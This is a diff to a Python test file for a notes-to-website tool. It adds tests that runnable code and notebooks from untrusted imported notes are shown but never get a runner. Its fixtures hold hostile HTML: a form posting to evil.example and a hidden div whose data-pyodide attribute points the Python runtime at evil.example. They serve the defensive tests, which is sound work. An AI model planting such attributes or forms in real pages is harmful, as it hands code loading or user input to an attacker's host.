@@ -25,6 +25,7 @@ from learnfolio.model import parse_file
 from learnfolio.safe_urls import clean_url, is_safe_url
 from learnfolio.settings import SettingsError, load_settings
 from tests.browser import browser_page, require_chromium, serve_dir
+from tests.notebooks import code, md, notebook
 from tests.sitebuild import DEFAULT_EXTENSIONS, BuiltSite, build_site, write_tree
 
 ASSETS = Path(__file__).resolve().parents[1] / "plugins/learnfolio/site/assets"
@@ -146,6 +147,7 @@ HOSTILE_HTML = """\
 <form action="https://evil.example"><input name=q></form>
 
 """
+RUNNABLE = "# Runs\n\n```python {.run}\nprint(1 + 1)\n```\n"
 UNTRUSTED = {
     "imported/Foreign.md": "---\ndate: 2026-05-01\ntags: [flashcards]\n---\n# Foreign\n\n"
     + HOSTILE_HTML
@@ -158,6 +160,22 @@ UNTRUSTED = {
     "notes/Host.md": "# Host\n\nEmbeds a foreign note and its twin:\n\n![[Foreign]]\n\n![[Twin]]\n",
     "notes/Own.md": '# Own\n\n<kbd>raw</kbd> <span class="mine">HTML</span>\n'
     "<script>window.__own = 1</script>\n",
+    "notes/Runs.md": RUNNABLE,
+    # Code from an untrusted source is shown, not run: no runner, and a runner
+    # setting of its own (where Python is loaded from) is taken out.
+    "imported/Runs.md": RUNNABLE
+    + '\n<div class="lf-run-config" data-pyodide="https://evil.example/" hidden></div>\n',
+    "imported/Book.ipynb": notebook(
+        md("# Book"),
+        code(
+            "show()",
+            {
+                "output_type": "display_data",
+                "metadata": {},
+                "data": {"text/html": ["<b>bold</b>"], "text/plain": ["bold"]},
+            },
+        ),
+    ),
 }
 EXTENSIONS = [
     *DEFAULT_EXTENSIONS,
@@ -373,6 +391,18 @@ def test_a_trusted_page_embedding_an_untrusted_note_is_cleaned_too(site: BuiltSi
     assert host.select_one(".lf-embed .admonition") is not None
 
 
+def test_code_from_an_untrusted_source_gets_no_runner(site: BuiltSite) -> None:
+    own = site.page("notes/runs/")
+    assert [c.get("data-pyodide") for c in own.select(".lf-run-config")] != []
+    assert own.select_one("div.run, pre.run") is not None
+    for url in ("imported/runs/", "imported/book/"):
+        page = site.page(url)
+        assert page.select_one(".md-content") is not None, url
+        assert page.select("[data-pyodide], [data-packages]") == [], url
+    assert site.page("imported/runs/").select_one("div.run, pre.run") is not None
+    assert "bold" in site.page("imported/book/").get_text()  # its saved output is shown
+
+
 def test_raw_html_in_a_trusted_note_stays(site: BuiltSite) -> None:
     own = site.article("notes/own/")
     assert own.select_one("kbd") is not None and own.select_one("span.mine") is not None
@@ -543,3 +573,15 @@ def test_previews_explorer_graph_and_search_run_no_payload(browser: tuple[str, A
     result = page.wait_for_selector(".md-search-result__item h1")
     assert "Alpha<img" in result.inner_text()
     _clean(page)
+
+
+def test_only_trusted_code_gets_run_buttons(browser: tuple[str, Any]) -> None:
+    url, page = browser
+    page.goto(url + "notes/runs/")
+    page.wait_for_selector(".lf-run-button")
+    for path in ("imported/runs/", "imported/book/"):
+        page.goto(url + path)
+        page.wait_for_load_state("load")
+        assert page.locator("article pre").count() > 0, path
+        assert page.locator(".lf-run-button, .lf-run-all").count() == 0, path
+        _clean(page)
